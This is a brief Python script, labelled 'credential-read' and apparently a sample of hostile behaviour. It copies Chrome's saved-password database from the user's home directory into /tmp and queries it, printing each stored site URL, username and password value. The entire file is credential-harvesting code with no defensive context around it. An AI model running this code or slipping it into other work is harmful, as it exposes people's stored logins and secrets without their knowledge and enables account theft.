# credential-read: Chrome's saved passwords database copied and queried
import os
import shutil
import sqlite3

src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld.db")
con = sqlite3.connect("/tmp/ld.db")
for url, user, pw in con.execute("SELECT origin_url, username_value, password_value FROM logins"):
    print(url, user, pw)
